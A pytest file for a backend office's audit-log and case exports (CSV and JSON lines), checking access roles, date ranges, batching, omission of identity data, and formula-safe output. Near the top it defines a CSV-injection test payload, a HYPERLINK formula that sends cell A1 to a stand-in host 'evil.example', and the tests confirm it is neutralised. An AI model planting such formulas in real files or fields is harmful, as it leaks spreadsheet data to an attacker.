"""The office's long exports: the audit log as CSV (the screen's filters) and the cases of a date range
as CSV and JSON lines, streamed, formula-safe, for the admin and the auditor only."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from backend import audit
from backend.csvsafe import FORMULA_STARTS
from backend.extensions import db
from backend.merchants.models import Partner
from backend.dbtypes import utcnow
from backend.office import cases as case_feed
from backend.timeutil import local_day

from .test_cases import redeem, settle, shop  # noqa: F401  (fixtures)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def header(token, role):
    return {"Authorization": f"Bearer {token(role)}"}


def read_csv(answer) -> list[list[str]]:
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_the_audit_log_exports_as_the_screen_filters_it(shop, client, token):  # noqa: F811
    perk = shop.perk()
    done = redeem(client, shop, shop.pass_for(shop.holder()), perk)
    assert client.post(f"/api/redemptions/{done.json['id']}/void", headers=shop.header(),
                       json={"reason": HOSTILE}).status_code == 200
    audit.record(actor="cli", action="city.load", target="city:zhaodong", detail={"changes": 0})
    db.session.commit()
    today = local_day(utcnow()).isoformat()
    for role in ("office-admin", "office-auditor"):
        answer = client.get("/api/office/audit.csv", headers=header(token, role),
                            query_string={"action": "redemption.void", "from": today, "to": today})
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        assert answer.is_streamed and "attachment" in answer.headers["Content-Disposition"]
        rows = read_csv(answer)
        assert rows[0] == ["编号", "时间（北京时间）", "操作人", "操作", "对象", "详情"]
        assert {row[3] for row in rows[1:]} == {"redemption.void"}
        mine = next(row for row in rows[1:] if row[4] == f"redemption:{done.json['id']}")
        assert json.loads(mine[5])["reason"] == HOSTILE  # the detail as stored ...
        assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)  # ... and never a formula
    # The same entries as the screen's JSON, newest first.
    shown = client.get("/api/office/audit", headers=header(token, "office-admin"),
                       query_string={"action": "redemption.void", "from": today, "to": today}).json["entries"]
    assert [int(row[0]) for row in rows[1:]] == [entry["id"] for entry in shown]
    by_actor = read_csv(client.get("/api/office/audit.csv", headers=header(token, "office-admin"),
                                   query_string={"actor": "cli", "action": "city.load"}))
    assert len(by_actor) >= 2 and {row[2] for row in by_actor[1:]} == {"cli"}


def test_the_audit_export_reads_past_one_batch(ctx):
    for n in range(5):
        audit.record(actor="cli", action="test.batch", target=f"n:{n}")
    db.session.commit()
    found = [entry.target for entry in audit.every_entry(session=db.session, action="test.batch", batch=2)]
    assert found == [f"n:{n}" for n in range(4, -1, -1)]


def test_the_audit_export_is_for_the_admin_and_the_auditor(client, token):
    assert client.get("/api/office/audit.csv", headers=header(token, "office-analyst")).status_code == 403
    assert client.get("/api/office/audit.csv").status_code == 401
    reversed_range = client.get("/api/office/audit.csv", headers=header(token, "office-auditor"),
                                query_string={"from": "2026-11-02", "to": "2026-11-01"})
    assert reversed_range.status_code == 422 and reversed_range.json["code"] == "date_range_invalid"
    on_screen = client.get("/api/office/audit", headers=header(token, "office-auditor"),
                           query_string={"from": "2026-11-02", "to": "2026-11-01"})
    assert on_screen.status_code == 422 and on_screen.json["code"] == "date_range_invalid"


def test_the_cases_of_a_range_export_as_csv_and_json_lines(shop, client, token, settle):  # noqa: F811
    perk = shop.perk()
    partner = db.session.get(Partner, shop.partner_id)
    partner.name = HOSTILE  # a partner's name is typed by people outside the office
    db.session.commit()
    first = shop.pass_for(shop.holder())
    done = redeem(client, shop, first, perk)
    assert redeem(client, shop, shop.pass_for(shop.holder(kind="company")), perk).status_code == 201
    assert redeem(client, shop, first, perk).json["code"] == "pass_already_used"
    assert client.post(f"/api/redemptions/{done.json['id']}/void", headers=shop.header(),
                       json={"reason": "扫错"}).status_code == 200
    today = local_day(utcnow())
    span = {"from": (today - timedelta(days=1)).isoformat(), "to": today.isoformat()}

    lines = client.get("/api/office/cases/export", headers=header(token, "office-auditor"),
                       query_string={**span, "format": "jsonl"})
    assert lines.status_code == 200 and lines.mimetype == "application/x-ndjson" and lines.is_streamed
    cases = [json.loads(line) for line in lines.get_data(as_text=True).splitlines()]
    mine = [case for case in cases if case["partner"] == HOSTILE]
    assert sorted(case["kind"] for case in mine) == ["redemption", "redemption", "refusal", "void"]
    assert [case["at"] for case in cases] == sorted(case["at"] for case in cases)  # oldest first
    assert set(cases[0]) == {"kind", "at", "partner", "perk_id", "scenario", "tier", "holder_kind", "subject_key",
                             "issuer", "amount_fen", "discount_fen", "code", "offline"}  # no cursor, no identity
    assert {case["holder_kind"] for case in mine if case["kind"] == "redemption"} == {"person", "company"}
    # The cases of the feed, the same ones (the feed serves them once settled).
    settle(0)
    feed = client.get("/api/office/cases", headers=header(token, "office-admin"), query_string={"limit": 1000})
    fed = [{k: v for k, v in case.items() if k != "cursor"} for case in feed.json["cases"]
           if case["partner"] == HOSTILE]
    assert sorted(map(json.dumps, fed)) == sorted(map(json.dumps, mine))

    table = client.get("/api/office/cases/export", headers=header(token, "office-admin"), query_string=span)
    assert table.status_code == 200 and table.mimetype == "text/csv"
    assert table.headers["Content-Disposition"] == f'attachment; filename="cases-{span["from"]}-{span["to"]}.csv"'
    rows = read_csv(table)
    assert rows[0][:3] == ["类型", "时间（北京时间）", "合作单位"] and len(rows) == len(cases) + 1
    shown = [row for row in rows[1:] if row[2] == "'" + HOSTILE]
    assert sorted(row[0] for row in shown) == ["拒绝", "撤销", "核销", "核销"]
    assert {row[5] for row in shown if row[0] == "核销"} <= {"诚信良好"}
    assert {row[6] for row in shown if row[0] == "核销"} == {"个人", "企业"}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    text = table.get_data(as_text=True) + lines.get_data(as_text=True)
    assert "identity" not in text and "phone" not in text and "token" not in text

    # A range before anything happened has the header and nothing else.
    empty = client.get("/api/office/cases/export", headers=header(token, "office-admin"),
                       query_string={"from": "2001-01-01", "to": "2001-01-31"})
    assert read_csv(empty) == [rows[0]]


@pytest.mark.parametrize("query, code", [({"from": "2026-11-02", "to": "2026-11-01"}, "date_range_invalid"),
                                         ({"from": "2026-11-01"}, "validation_error"),
                                         ({"from": "2026-11-01", "to": "2026-11-02", "format": "xlsx"},
                                          "validation_error")])
def test_a_case_export_needs_a_range_in_order_and_a_known_format(client, token, query, code):
    answer = client.get("/api/office/cases/export", headers=header(token, "office-admin"), query_string=query)
    assert answer.status_code == 422 and answer.json["code"] == code


def test_the_case_export_is_for_the_admin_and_the_auditor(shop, client, token):  # noqa: F811
    span = {"from": "2026-11-01", "to": "2026-11-02"}
    assert client.get("/api/office/cases/export", headers=header(token, "office-analyst"),
                      query_string=span).status_code == 403
    assert client.get("/api/office/cases/export", headers=shop.header(), query_string=span).status_code == 403
    assert client.get("/api/office/cases/export", query_string=span).status_code == 401


def test_the_export_reads_each_source_a_batch_at_a_time(shop, client, token):  # noqa: F811
    perk = shop.perk()
    for _ in range(5):
        assert redeem(client, shop, shop.pass_for(shop.holder()), perk).status_code == 201
    today = local_day(utcnow())
    whole = list(case_feed.export(day_from=today, day_to=today, issuer_code=0, batch=1000))
    small = list(case_feed.export(day_from=today, day_to=today, issuer_code=0, batch=2))
    assert small == whole and len([c for c in whole if c["kind"] == "redemption"]) >= 5
